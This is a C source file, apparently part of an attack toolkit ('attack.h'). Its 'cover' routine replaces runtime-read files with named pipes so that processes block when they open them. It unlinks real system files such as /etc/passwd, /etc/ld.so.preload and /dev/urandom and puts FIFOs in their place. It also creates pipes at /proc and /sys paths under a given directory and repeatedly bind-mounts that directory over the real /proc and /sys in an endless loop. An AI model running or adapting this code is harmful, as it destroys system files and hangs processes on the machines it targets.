/*
 * Pipes in the place of files that a run time may open by itself. Whoever opens a pipe waits until another one writes.
 * /proc is now the kernel's and now that of the pipes, as fast as that goes.
 */

#define _GNU_SOURCE
#include "attack.h"
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *const PIPES[] = {
    "proc/self/statm", "proc/self/stat", "proc/self/status", "proc/self/maps",
    "proc/self/smaps", "proc/self/cgroup", "proc/self/mountinfo", "proc/self/exe",
    "proc/thread-self/statm", "proc/meminfo", "proc/stat", "proc/cpuinfo",
    "proc/sys/vm/overcommit_memory", "proc/sys/kernel/osrelease", "proc/sys/kernel/random/boot_id",
    "sys/fs/cgroup/memory.max", "sys/fs/cgroup/cpu.max", "sys/devices/system/cpu/online",
    "sys/devices/system/cpu/possible", "sys/kernel/mm/transparent_hugepage/enabled",
};

static const char *const IN_PLACE[] = {
    "/dev/urandom", "/dev/random", "/dev/null", "/etc/localtime", "/etc/resolv.conf",
    "/etc/nsswitch.conf", "/etc/passwd", "/etc/group", "/etc/hosts", "/etc/ld.so.cache",
    "/etc/ld.so.preload", "/etc/os-release", "/etc/timezone", "/etc/ssl", "/etc/gai.conf",
};

/* Makes the directories above it, too. */
static void make_pipe(const char *path) {
  char part[4096];
  for (const char *slash = strchr(path + 1, '/'); slash != NULL; slash = strchr(slash + 1, '/')) {
    snprintf(part, sizeof part, "%.*s", (int)(slash - path), path);
    mkdir(part, 0755);
  }
  unlink(path);
  if (mkfifo(path, 0666) < 0 && errno != EEXIST) fail(path);
}

/* cover DIRECTORY */
int cover(int argc, char **argv) {
  if (argc != 2) return 2;
  char path[4096], proc[4096], sys[4096];
  for (size_t i = 0; i < sizeof PIPES / sizeof *PIPES; i++) {
    snprintf(path, sizeof path, "%s/%s", argv[1], PIPES[i]);
    make_pipe(path);
  }
  for (size_t i = 0; i < sizeof IN_PLACE / sizeof *IN_PLACE; i++) make_pipe(IN_PLACE[i]);
  snprintf(proc, sizeof proc, "%s/proc", argv[1]);
  snprintf(sys, sizeof sys, "%s/sys", argv[1]);
  for (int is_first = 1;; is_first = 0) {
    check(mount(proc, "/proc", NULL, MS_BIND, NULL), "cover /proc");
    check(mount(sys, "/sys", NULL, MS_BIND, NULL), "cover /sys");
    usleep(200);
    check(umount2("/proc", MNT_DETACH), "uncover /proc");
    check(umount2("/sys", MNT_DETACH), "uncover /sys");
    usleep(200);
    if (is_first) be_ready(argv[1]);
  }
}
